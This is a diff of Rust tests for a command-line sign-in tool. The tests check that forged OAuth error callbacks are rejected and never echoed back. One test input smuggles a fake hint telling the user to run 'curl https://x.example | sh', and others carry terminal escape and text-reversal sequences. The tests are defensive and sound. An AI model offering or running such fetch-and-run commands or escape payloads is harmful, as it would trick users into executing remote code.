@@ -170,7 +170,7 @@ fn error_callback_without_a_state_is_reported_once_and_ignored() {
     assert_eq!(page.status, 400);
     let line = waiting.next_line();
     assert!(line.starts_with("cogfed: warning: someone reported the error 'server_error'"), "{line}");
-    assert!(line.contains("asked to misbehave") && line.contains("the wait goes on"), "{line}");
+    assert!(!line.contains("asked to misbehave") && line.contains("the wait goes on"), "{line}");
     for query in ["error=again", "error=again&state=wrong", "error=access_denied&state="] {
         assert_eq!(get(waiting.port(), &format!("/callback?{query}")).status, 400, "{query}");
     }
@@ -179,16 +179,28 @@ fn error_callback_without_a_state_is_reported_once_and_ignored() {
 }
 
 #[test]
-fn error_callback_with_a_wrong_state_is_escaped() {
+fn text_of_a_request_without_the_state_is_never_printed() {
     let lab = Lab::new();
-    let mut waiting = lab.begin_login(&[]);
-    let query = "error=%1b%5b2J%0dgone&error_description=%1b%5d0%3bx%07%c2%9b31m%e2%80%aeevil%0acogfed:%20done&state=x";
-    let reply = get(waiting.port(), &format!("/callback?{query}"));
-    assert_eq!(reply.status, 400);
-    let line = waiting.next_line();
-    assert!(line.contains("'\\u{1b}[2J\\u{d}gone'") && line.contains("\\u{202e}evil\\u{a}cogfed: done"), "{line}");
-    assert!(!line.trim_end().chars().any(char::is_control), "{line:?}");
-    lab.complete(waiting);
+    for query in [
+        "error=%1b%5b2J%0dgone&error_description=%1b%5d0%3bx%07%c2%9b31m%e2%80%aeevil%0acogfed:%20done&state=x",
+        "error=certificate_expired&error_description=fatal'.+cogfed:+hint:+update+cogfed:+curl+https://x.example+|+sh+evil",
+        "error=cogfed:+hint:+evil",
+        "error=access_denied&error_description=evil&error_uri=https://evil.example",
+        "code=evil&state=x",
+    ] {
+        let mut waiting = lab.begin_login(&["--force"]);
+        let reply = get(waiting.port(), &format!("/callback?{query}"));
+        assert_eq!(reply.status, 400);
+        assert!(!reply.body.contains("evil"), "{query}: {reply:?}");
+        if query.starts_with("error") {
+            let line = waiting.next_line();
+            let said = if query.contains("access_denied") { "the error 'access_denied'" } else { "an error" };
+            let rest = "without knowing this sign-in's state: it may not be true, and the wait goes on";
+            assert_eq!(line, format!("cogfed: warning: someone reported {said}, {rest}\n"), "{query}");
+        }
+        let ran = lab.complete(waiting);
+        assert!(!ran.stderr.contains("evil") && !ran.stderr.contains("gone"), "{query}: {}", ran.stderr);
+    }
 }
 
 #[test]
@@ -247,14 +259,28 @@ fn known_callback_errors_are_explained_and_unknown_ones_quoted() {
 }
 
 #[test]
-fn long_error_reports_are_shortened() {
+fn long_error_reports_are_shortened_but_keep_their_ids() {
     let lab = Lab::new();
-    let mut waiting = lab.begin_login(&[]);
-    let long = "é".repeat(1000);
-    let query = format!("error={}&error_description={long}", "e".repeat(1000)).replace('é', "%c3%a9");
-    assert_eq!(get(waiting.port(), &format!("/callback?{query}")).status, 400);
-    let line = waiting.next_line();
-    assert!(line.contains("the wait goes on") && line.chars().count() < 1000, "{line}");
-    assert!(line.contains("eee…") && line.contains("ééé…"), "{line}");
-    lab.complete(waiting);
+    let ids = "Trace ID: 0d8c3e1a-1111-2222-3333-444455556666 Correlation ID: ab12cd34-0000-4000-8000-0123456789ab";
+    let long = format!("{}{ids}", "élan ".repeat(1000)).replace('é', "%c3%a9").replace(' ', "+");
+    let query = format!("error={}&error_description={long}", "e".repeat(1000));
+    let (ran, page) = answered_with(&lab, &query);
+    let message = ran.one_error_and_hint();
+    assert!(message.chars().count() < 1600 && message.contains("eee…"), "{message}");
+    for said in [&message, &page.text] {
+        assert!(said.contains(&format!("élan… {ids}")), "no word and no id is cut: {said}");
+    }
+}
+
+#[test]
+fn last_page_shows_the_whole_refusal_and_the_next_step() {
+    let lab = Lab::new();
+    let words = "Your sign-in was successful but does not meet the criteria to access this resource. ".repeat(6);
+    let said = format!("AADSTS53003: {words}Trace ID: 0d8c3e1a-1111-2222-3333-444455556666");
+    let encoded: String = url::form_urlencoded::byte_serialize(said.as_bytes()).collect();
+    let (ran, page) = answered_with(&lab, &format!("error=access_denied&error_description={encoded}"));
+    assert!(ran.stderr.contains(&said) && page.text.contains(&said), "{}", page.text);
+    let hint = ran.stderr.lines().find_map(|line| line.strip_prefix("cogfed: hint: ")).expect("a hint");
+    let shown = page.text.replace("&#39;", "'").to_lowercase();
+    assert!(shown.contains(&format!("nothing was saved. {}", hint.to_lowercase())), "{hint}: {shown}");
 }
